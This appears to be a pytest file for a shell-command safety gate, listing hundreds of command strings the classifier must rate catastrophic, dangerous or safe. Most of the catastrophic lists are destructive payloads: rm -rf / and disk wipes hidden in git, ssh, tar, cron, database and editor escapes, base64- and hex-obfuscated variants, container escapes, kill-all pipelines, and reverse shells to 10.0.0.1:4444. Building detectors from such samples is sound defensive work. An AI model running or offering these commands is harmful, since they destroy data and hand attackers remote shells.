"""Options, settings and tool scripts whose value is a command line another program runs (issue 12).

A pager, editor, ssh proxy, remote shell, tar checkpoint, makefile recipe, crontab line, Tcl
`exec`, database client `\\!`, debugger `shell` or editor `:!` is shell text: it is read by the
same analyser, so what it does (deleting a root, wiping a disk) decides the level, and the escape
itself stays dangerous unless its command is proven read-only. These strings are data: they are
only ever classified, never run.
"""

from __future__ import annotations

import pytest

from engine.gate.verdict import Level

GIT = [
    "git -c core.pager='rm -rf /' log",
    "git -c core.pager='sh -c \"rm -rf ~\"' log -1",
    "git -c core.fsmonitor='rm -rf ~' status",
    "git -c core.sshCommand='rm -rf /' fetch origin",
    "git -c core.editor='rm -rf /' commit",
    "git -c diff.external='rm -rf /' diff",
    "git -c alias.x='!rm -rf /' x",
    "git -c alias.st='!f(){ rm -rf \"$1\"; }; f /' st",
    "git -c filter.a.clean='rm -rf /' add .",
    "git -c filter.lfs.smudge='dd if=/dev/zero of=/dev/sda' checkout .",
    "git -c credential.helper='!rm -rf /' fetch",
    "git -c sequence.editor='rm -rf ~' rebase -i HEAD~2",
    "git -c Core.Pager='rm -rf /' log",
    "P='rm -rf /' git --config-env=core.pager=P log",
    "GIT_PAGER='rm -rf /' git log",
    "GIT_SSH_COMMAND='rm -rf /' git fetch",
    "GIT_EXTERNAL_DIFF='rm -rf /' git diff",
    "GIT_EDITOR='rm -rf ~' git commit",
    "env GIT_PAGER='rm -rf /' git log",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log",
    "git config --global core.pager 'rm -rf /'",
    "git config alias.cleanup '!rm -rf ~'",
]

VARIABLES = [
    "EDITOR='rm -rf /' crontab -e",
    "VISUAL='rm -rf /' git commit",
    "PAGER='rm -rf /' man ls",
    "MANPAGER='rm -rf ~' man bash",
    "LESSOPEN='|rm -rf / %s' less notes.txt",
    "LESSOPEN='rm -rf ~ %s' less notes.txt",
    "LESSCLOSE='rm -rf / %s %s' less notes.txt",
    "BROWSER='rm -rf /' xdg-open https://x.example",
    "PROMPT_COMMAND='rm -rf /' bash -i",
    "export PAGER='rm -rf /'; man ls",
    "export EDITOR='dd if=/dev/zero of=/dev/sda'",
    "SYSTEMD_PAGER='rm -rf /' systemctl status",
    "PS1='$(rm -rf /)' bash -i",
    "BASH_ENV=<(echo 'rm -rf /') bash -c ls",
    "ENV=<(echo 'rm -rf ~') sh -i",
    "echo 'rm -rf /' > /tmp/e.sh; BASH_ENV=/tmp/e.sh bash -c true",
    "RSYNC_RSH='rm -rf /' rsync -a src host:dst",
]

OPTIONS = [
    "ssh -o ProxyCommand='rm -rf /' host",
    "ssh -oProxyCommand='rm -rf ~' host",
    "ssh -o 'ProxyCommand rm -rf /' host",
    "ssh -o LocalCommand='rm -rf /' -o PermitLocalCommand=yes host",
    "scp -o ProxyCommand='rm -rf /' f host:",
    "sftp -o proxycommand='rm -rf /' host",
    "rsync -e 'rm -rf /' src host:dst",
    "rsync --rsh='rm -rf ~' -a src host:dst",
    "rsync -av -e \"sh -c 'rm -rf /'\" src host:",
    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
    "tar -xf a.tar --to-command='rm -rf /'",
    "tar --use-compress-program='rm -rf /' -cf x.tar .",
    "tar -I 'rm -rf ~' -cf x.tar .",
    "tar -cf x.tar -I'rm -rf /' .",
    "zip x.zip notes.txt -T -TT 'rm -rf /'",
    "zip x.zip notes.txt -T --unzip-command 'rm -rf ~'",
    "find / -maxdepth 0 -ok rm -rf {} \\;",
    "find ~ -maxdepth 0 -okdir rm -rf {} +",
    "man -P 'rm -rf /' ls",
    "man --pager='rm -rf ~' ls",
    "apt-get update -o APT::Update::Pre-Invoke::='rm -rf /'",
    "dpkg --pre-invoke='rm -rf /' -i x.deb",
    "sort --compress-program='rm -rf /' big.txt",
]

SCRIPTS = [
    "make -f - <<< $'all:\\n\\trm -rf /'",
    "make -f - all <<'EOF'\nall:\n\trm -rf ~\nEOF",
    "echo -e 'x:\\n\\trm -rf /' | make -f -",
    "make --eval='x:; rm -rf /' x",
    "make --eval='$(shell rm -rf /)'",
    "make -E 'all: ; @rm -rf /'",
    "make -f <(printf 'all:\\n\\t-rm -rf /\\n')",
    "make -f /dev/stdin <<< $'T = /\\nall:\\n\\trm -rf $(T)'",
    "echo '* * * * * rm -rf /' | crontab -",
    "crontab - <<< '@reboot rm -rf ~'",
    "(crontab -l; echo '0 * * * * rm -rf /') | crontab -",
    "{ crontab -l 2>/dev/null; echo '*/5 * * * * dd if=/dev/zero of=/dev/sda'; } | crontab -",
    "printf 'MAILTO=x\\n@hourly rm -rf /\\n' | crontab",
    "crontab <(echo '1 2 * * * rm -rf /')",
    "echo 'rm -rf /' | at now + 1 minute",
    "(echo 'rm -rf ~') | batch",
    "at -f <(echo 'rm -rf /') now",
    "expect -c 'spawn rm -rf /'",
    "expect -c 'spawn sh -c \"rm -rf /\"; expect eof'",
    "expect -c 'exec rm -rf ~'",
    "expect <<< 'spawn rm -rf /; interact'",
    "tclsh <<< 'exec rm -rf /'",
    "echo 'exec rm -rf /' | tclsh",
    "echo 'puts [exec rm -rf ~]' | tclsh",
    "wish <<< 'exec sh -c {rm -rf /}'",
    "psql -c '\\! rm -rf /'",
    "psql -d app -c '\\! rm -rf ~'",
    "psql <<< '\\! rm -rf /'",
    "echo '\\! rm -rf /' | psql postgres",
    "psql -c \"\\copy t from program 'rm -rf /'\"",
    "mysql -e 'system rm -rf /'",
    "mysql -e '\\! rm -rf ~'",
    "mysql -u root <<< 'system rm -rf /'",
    "mariadb -e 'system rm -rf /'",
    "sqlite3 x.db '.shell rm -rf /'",
    "sqlite3 :memory: '.system rm -rf ~'",
    "sqlite3 -cmd '.shell rm -rf /' x.db .quit",
    "echo '.shell rm -rf /' | sqlite3",
    "gdb -batch -ex '!rm -rf /'",
    "gdb -batch -ex 'shell rm -rf ~'",
    "gdb --batch --eval-command='shell rm -rf /'",
    "gdb -q -ex 'call system(\"rm -rf /\")' -p 1",
    "gdb -batch -ex 'python import os; os.system(\"rm -rf /\")'",
    "gdb -q <<< 'shell rm -rf /'",
    "vim -c ':!rm -rf /'",
    "vim -c '!rm -rf ~' -c ':q!'",
    "vim +'!rm -rf /' +q",
    "vim -es -c 'silent !rm -rf /' -c q",
    "nvim --headless -c 'call system(\"rm -rf /\")' -c q",
    "vim -c 'call system(\"rm -rf ~\")' -c q",
    "vim -e -s <<< '!rm -rf /'",
    "ex -c '!rm -rf /' -c q notes.txt",
    "less '+!rm -rf /' notes.txt",
    "less notes.txt <<< '!rm -rf /'",
    "printf '!rm -rf ~\\nq\\n' | more",
    "echo / | xargs rm -rf",
    "echo -rf / | xargs rm",
    "xargs rm -rf <<< /",
    "echo / | xargs -r -n1 rm -rf",
    "xargs sh -c 'rm -rf \"$@\"' _ <<< /",
    "printf '/\\0' | xargs -0 -I% rm -rf %",
    "env -S 'rm -rf /'",
    "env -S\"rm -rf /\"",
    "env --split-string='rm -rf ~'",
    "env -i -S 'rm -rf /'",
    "/usr/bin/env -S 'sudo rm -rf /'",
]

INDIRECTION = [
    "c=rm; declare -n ref=c; $ref -rf /",
    "declare -n r=c; c=rm; $r -rf /",
    "t=/; declare -n p=t; rm -rf $p",
    "declare -n p=t; p=/; rm -rf $t",
    "f(){ local -n out=$1; rm -rf \"$out\"; }; d=/; f d",
    "parallel 'rm -rf {}' <<< \"$HOME\"",
    "parallel 'rm -rf {}' <<< /",
    "parallel 'rm -rf {}' ::: /etc",
    "echo / | parallel 'chmod -R 000 {}'",
    "bash -c \"$(cat)\" <<< 'rm -rf /'",
    "sh -c \"$(cat -)\" <<< 'rm -rf ~'",
    "eval \"$(cat)\" <<< 'rm -rf /'",
    "ls / | sed 's|^|/|' | xargs rm -rf",
    "ls / | sed 's/^/\\//' | xargs rm -rf",
    "ls / | awk '{print \"/\" $0}' | xargs rm -rf",
    "ls -1 / | grep -v proc | sed 's|^|/|' | xargs rm -rf",
    "ps -e -o pid= | xargs kill -9",
    "ps -eo pid= | xargs -n1 kill -KILL",
    "ps aux | awk '{print $2}' | xargs kill -9",
    "ps -ef | grep -v grep | awk '{print $2}' | xargs sudo kill -9",
    "kill -9 $(ps -eo pid=)",
    "kill -9 `ps -e -o pid=`",
    "ps -e -o pid= | while read p; do kill -9 $p; done",
    "pkill -KILL -v -x sshd",
    "pkill -9 -v bash",
    "pkill -9 -v -u nobody",
    "pkill -9 -f .",
    "zfs list -t snapshot -o name | xargs -n1 zfs destroy",
    "zfs list -H -t snapshot -o name | xargs -n 1 zfs destroy -r",
    "for s in $(zfs list -H -t snapshot -o name); do zfs destroy $s; done",
    "tmutil listbackups | xargs -n1 sudo tmutil delete",
    "cut -d: -f1 /etc/passwd | xargs -n1 userdel -r",
    "toybox rm -rf /etc",
    "toybox sh -c 'rm -rf /'",
    "kubectl exec -it pod -- chroot /host sh -c 'rm -rf /'",
    "kubectl exec pod -- chroot /host rm -rf /etc",
    "kubectl exec -n kube-system pod -- nsenter -t 1 -m -u -i -n -p -- rm -rf /",
    "docker exec ctr chroot /host rm -rf /",
    "docker exec -it -u 0 ctr nsenter -t 1 -m sh -c 'rm -rf /'",
    "docker run --rm -v /:/host alpine chroot /host rm -rf /",
    "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
    "zsh 7<>/dev/tcp/h/1 <&7 >&7",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
]

RUN_LATER_AND_VARIANTS = [
    "git clone 'ext::sh -c rm% -rf% /' x",
    "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% -rf% ~'",
    "ssh -F /dev/stdin host <<< 'ProxyCommand rm -rf /'",
    "ssh -F <(echo 'Host *\n  ProxyCommand rm -rf ~') host",
    "scp -S 'rm -rf /' notes.txt host:",
    "zip -T -TT='rm -rf /' x.zip notes.txt",
    "at -f /dev/stdin now <<< 'rm -rf /'",
    "expect -c 'spawn bash; send \"rm -rf /\\r\"; interact'",
    "LESS='+!rm -rf /' less notes.txt",
    "echo 'rm -rf ~' >> ~/.bashrc",
    "echo '* * * * * root rm -rf /' > /etc/cron.d/wipe",
    "printf 'rm -rf /\\n' > /etc/cron.hourly/x",
    "perl -MMIME::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJybSAtcmYgLyIp\"))'",
    "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp').decode())\"",
    "python3 -c \"import os;os.system(__import__('zlib').decompress(__import__('base64').b64decode('eJwrylXQLUpT0AcAC50CVA==')).decode())\"",
    "node -e \"eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp','base64').toString())\"",
    "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
    "lua -e 'os.execute(\"rm -rf \" .. os.getenv(\"HOME\"))'",
    "node -e \"require('child_process').execSync('rm -rf ' + require('os').homedir())\"",
    "sh -c \"$(</dev/stdin)\" <<< 'rm -rf /'",
    "for p in $(pgrep -v init); do kill -9 $p; done",
    "pgrep . | xargs kill -9",
    "killall -9 -r .",
    "ps -A -o pid | tail -n +2 | xargs kill -9",
    "btrfs subvolume list / | awk '{print $NF}' | xargs -I{} btrfs subvolume delete /{}",
    "kubectl debug node/x -it --image=ubuntu -- bash -c 'chroot /host rm -rf /'",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
    "rm -rf ${PWD::1}",
    "rm -rf ${HOME::1}",
    "cd; rm -rf ../*",
    "rm -rf ~/../..",
    "rm -rf $HOME/../../",
    "echo / | xargs -i rm -rf {}",
    "xargs -d '\\n' rm -rf <<< /",
    "echo 'rm -rf /' | xargs -I % sh -c %",
    "printf '%s\\n' / | xargs rm -rf",
    "parallel -j1 'rm -rf {}' ::: /",
    "export P='rm -rf /'; git --config-env=core.pager=P log",
    "vim -c 'exe \"!rm -rf /\"'",
    "nvim -c 'lua os.execute(\"rm -rf /\")'",
    "vim -c 'py3 import os; os.system(\"rm -rf /\")'",
    "gdb -batch -ex 'pipe info registers | rm -rf /'",
    "osascript <<< 'do shell script \"rm -rf ~\"'",
    "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf /'\" git log",
    "env BASH_ENV=/dev/stdin bash -c : <<< 'rm -rf /'",
    "crontab <<< '* * * * * rm -rf /'",
    "echo '@daily rm -rf ~' | sudo crontab -u root -",
    "tclsh <<< 'eval exec rm -rf /'",
    "ssh -o 'LocalCommand=rm -rf /' -o PermitLocalCommand=yes host",
]

CONFIGURATION_FILES_AND_MORE = [
    "printf '[core]\\n\\tpager = rm -rf /\\n' >> .git/config",
    "echo -e '[alias]\\n\\tx = !rm -rf ~' >> ~/.gitconfig",
    "printf 'Host *\\n  ProxyCommand rm -rf /\\n' >> ~/.ssh/config",
    "rsync -e \"ssh -o ProxyCommand='rm -rf /'\" src h:d",
    "tar xf a.tar --to-command 'sh -c \"rm -rf ~\"'",
    "make -f- <<< $'all:\\n\\t@rm -rf /'",
    "echo 'all:; rm -rf /' | make -f -",
    "expect -f - <<< 'spawn rm -rf /'",
    "psql -f - <<< '\\! rm -rf /'",
    "gdb -batch -x /dev/stdin <<< 'shell rm -rf /'",
    "vim -es +'!rm -rf /' +q",
    "rm -rf ${HOME%/${USER}}",
    "rm -rf ${HOME%/$USER}",
    "python3 -c \"import os; os.system(''.join(map(chr,[114,109,32,45,114,102,32,47])))\"",
    "python3 -c \"import os; os.system(''.join(chr(c) for c in [114,109,32,45,114,102,32,47]))\"",
    "python3 -c \"import os; os.system(bytes([114,109,32,45,114,102,32,47]).decode())\"",
    "node -e \"require('child_process').execSync(String.fromCharCode(114,109,32,45,114,102,32,47))\"",
    "pkill -9 -u root",
    "pkill -KILL -u $USER",
    "killall -9 -u $(whoami)",
    "kill -9 $(pgrep -u root)",
    "kubectl exec -it pod -- sh -c 'chroot /host rm -rf /'",
    "kubectl exec pod -- bash -c 'nsenter -t 1 -m -- rm -rf /etc'",
    "docker run --rm -v /:/host alpine sh -c 'rm -rf /host/*'",
    "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f",
    "telnet h 4444 | /bin/sh | telnet h 4445",
    "rm -rf \"$(dirname \"$HOME\")\"",
    "echo 'cm0gLXJmIC8=' | openssl base64 -d -A | sh",
    "echo 726d202d7266202f | xxd -p -r | sh",
]

CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION + RUN_LATER_AND_VARIANTS + CONFIGURATION_FILES_AND_MORE

DANGEROUS = [
    "git -c core.pager='delta' log",
    "git -c alias.x='!echo hi' x",
    "git -c core.sshCommand='ssh -i key' fetch",
    "GIT_PAGER='my-pager' git log",
    "EDITOR='./edit.sh' git commit",
    "PAGER='rm notes.txt' man ls",
    "ssh -o ProxyCommand='nc -x proxy:1080 %h %p' host",
    "tar -cf x.tar . --checkpoint=1 --checkpoint-action=exec='echo hi'",
    "make -f - <<< $'all:\\n\\techo hi'",
    "echo '* * * * * /usr/bin/backup' | crontab -",
    "psql -c '\\! ls'",
    "mysql -e 'system ls'",
    "sqlite3 x.db '.shell ls'",
    "gdb -batch -ex 'shell ls'",
    "vim -c ':!ls'",
    "expect -c 'spawn ssh host'",
    "man -P 'rm x' ls",
    "BASH_ENV=<(echo 'rm x') bash -c ls",
    "rsync -e 'ssh -p 2222' src host:dst",
    "ps -o pid= -u bob | xargs kill",
    "pgrep python | xargs kill -9",
    "ps aux | grep python | awk '{print $2}' | xargs kill -9",
    "pkill -9 -x bash",
    "zfs list -H -t snapshot -o name | grep @tmp | xargs -n1 zfs destroy",
    "kubectl exec pod -- rm -rf /tmp/cache",
    "docker exec ctr rm -rf /",
    "parallel 'gzip {}' ::: a.log b.log",
    "cat < /dev/tcp/time.example/13 'x",
    "echo 'export EDITOR=vim' >> ~/.bashrc",
    "echo '0 3 * * * /usr/local/bin/backup' | crontab -",
    "echo '* * * * * root /usr/bin/true' > /etc/cron.d/noop",
    "killall -r 'pyth.*'",
    "pkill -u bob",
    "pkill -u root sshd",
    "printf '[core]\\n\\tpager = less\\n' >> .git/config",
    "kubectl exec pod -- sh -c 'rm -rf /var/cache/app'",
]

SAFE = [
    "PAGER=cat man ls",
    "git -c color.ui=never log -1",
    "man ls",
    "tar -tf x.tar",
    "crontab -l",
    "at -l",
    "sqlite3 x.db .tables",
    "psql -c 'select 1'",
    "less +G notes.txt",
    "echo 'git -c core.pager=\"rm -rf /\" log'",
    "echo 'exec rm -rf /'",
    "grep ProxyCommand notes.txt",
    "ps -e -o pid=",
    "zfs list -t snapshot",
    "ls / | sed 's|^|/|'",
]


@pytest.mark.parametrize("command", CATASTROPHIC)
def test_command_line_in_a_setting_carries_its_level(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.CATASTROPHIC, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", DANGEROUS)
def test_escape_to_an_ordinary_command_is_dangerous(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.DANGEROUS, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", SAFE)
def test_read_only_pager_settings_stay_safe(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.SAFE, f"{command!r}: {verdict.level.label} {verdict.rules}"


def test_each_escape_names_what_it_runs(shell) -> None:
    assert "fs.rm-root" in shell("git -c core.pager='rm -rf /' log").rules
    assert "exec.destroy-listed" in shell("ps -e -o pid= | xargs kill -9").rules
    assert "exec.kill-all" in shell("pkill -9 -v bash").rules
    assert "fallback.reverse-shell" in shell("sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5").rules


def test_parses_stay_within_their_budget() -> None:
    """Input that sends tree-sitter's error recovery into quadratic work is cut short (and so read by the
    regex fallback), while valid text of the same size is parsed whole."""
    from engine.gate.shell.parse import parse

    assert parse("$x" + ".a()" * 3000).truncated
    assert parse("for /d %i in (x) do " * 500 + "echo").truncated
    assert parse(")" * 15000).truncated
    valid = parse("echo " + "word " * 3000)
    assert not valid.truncated and not valid.error and len(valid.commands[0].argv) == 3001
